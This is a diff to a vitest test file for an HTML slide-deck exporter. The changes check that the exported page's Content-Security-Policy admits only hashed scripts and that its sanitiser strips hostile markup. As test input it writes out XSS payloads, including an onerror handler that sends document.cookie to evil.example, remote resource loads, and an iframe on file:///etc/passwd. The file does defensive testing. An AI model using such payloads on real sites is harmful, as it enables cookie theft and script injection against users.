@@ -1,6 +1,7 @@
 import { describe, it, expect } from 'vitest';
 import { buildHtmlDeck, type DeckHtmlAssets } from './html-deck';
 import { parseDeck } from '../deck';
+import { scriptHashes } from './script-hashes';
 
 const assets: DeckHtmlAssets = {
   revealJs: '/*REVEAL_JS*/ window.Reveal = function () {};',
@@ -54,7 +55,7 @@ describe('buildHtmlDeck', () => {
     const html = buildHtmlDeck(deck, assets);
     const slides = slideData(html);
     expect(slides).toContain('<aside class="notes"><p>讲稿：在万亿之城再出发中提升贡献度。</p>');
-    expect(html).toContain('DOMPurify.sanitize(data.html');
+    expect(html).toContain('sanitizer.sanitize(data.html)');
     expect(html).toContain('plugins: mode === \'present\' ? [window.RevealNotes]');
   });
 
@@ -66,6 +67,16 @@ describe('buildHtmlDeck', () => {
     expect(slideData(html)).toContain('alert(1)');
     // Exactly the scripts we wrote: data, DOMPurify, reveal.js, notes plugin, boot.
     expect(html.match(/<script\b/g)).toHaveLength(5);
+  });
+
+  it('lets only its own scripts run: a hash per script, no unsafe-inline (so no event handler or javascript: URL)', () => {
+    const html = buildHtmlDeck(deck, assets);
+    const csp = /Content-Security-Policy" content="([^"]*)"/.exec(html)![1]!;
+    const scriptSrc = csp.split(';').map((d) => d.trim()).find((d) => d.startsWith('script-src'))!;
+    expect(scriptSrc).not.toMatch(/unsafe-inline|unsafe-eval|unsafe-hashes/);
+    const inline = [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((m) => m[1]!);
+    expect(inline).toHaveLength(4);
+    for (const h of scriptHashes(inline)) expect(scriptSrc).toContain(h);
   });
 
   it('print mode: slides only leaves the notes out entirely; the notes variant keeps them', () => {
@@ -85,18 +96,30 @@ describe('buildHtmlDeck', () => {
 });
 
 describe('standalone HTML sanitising', () => {
-  it("uses the app's slide allow-list: a deck's iframe, form, style or handler never reaches the exported page", async () => {
+  it("runs the app's own sanitiser in the page: frames, forms, handlers, remote loads and HTML in data-notes never reach the document", async () => {
     // @ts-expect-error -- jsdom is a dev dependency without @types here; only its window is used.
     const { JSDOM } = await import('jsdom');
     const createDOMPurify = (await import('dompurify')).default;
     const hostile = parseDeck(
-      '---\ntitle: t\n---\n\n# A\n\n<iframe src="file:///etc/passwd"></iframe>\n\n<form action="x"><input></form>\n\n<style>@import "http://example.com/x.css";</style>\n\n<img src="m.png" onerror="alert(1)">\n',
+      [
+        '---\ntitle: t\n---\n',
+        `<!-- .slide: data-notes="<img src=x onerror=opener.location='http://evil.example/?d='+document.cookie>" data-background-image="http://evil.example/bg.png" -->`,
+        '# A\n',
+        '<p class="fragment" data-notes="<img src=x onerror=alert(1)>">片段</p>\n',
+        '<iframe src="file:///etc/passwd"></iframe>\n\n<form action="x"><input></form>\n\n<style>@import "http://example.com/x.css";</style>\n',
+        '<img src="m.png" onerror="alert(1)">\n\n<img src="http://evil.example/a.png"><img srcset="http://evil.example/b.png 2x"><video poster="https://evil.example/p.png"></video>\n',
+        '<div style="background:u\\72l(http://evil.example/c.png)">css escape</div><svg><image href="http://evil.example/d.png"></image></svg>\n',
+        'Note:\n<img src=x onerror="alert(2)">讲稿\n',
+      ].join('\n'),
     ).deck;
     const html = buildHtmlDeck(hostile, assets);
-    const policy = JSON.parse(/var policy = (\{.*?\});/.exec(html)![1]!) as Record<string, unknown>;
+    const source = /var sanitizer = ([\s\S]*?);\n {2}document\.querySelector/.exec(html)![1]!;
     const purify = createDOMPurify(new JSDOM('').window as never);
-    const clean = String(purify.sanitize(slideData(html), policy));
-    expect(clean).not.toMatch(/<iframe|<form|<input|<style|onerror/i);
+    const sanitizer = new Function('window', `return ${source};`)({ DOMPurify: purify }) as { sanitize(h: string): string };
+    const clean = sanitizer.sanitize(slideData(html));
+    expect(clean).not.toMatch(/<iframe|<form|<input|<style|onerror|data-notes|evil\.example/i);
     expect(clean).toContain('<img src="m.png">');
+    expect(clean).toContain('片段');
+    expect(clean).toContain('讲稿');
   });
 });
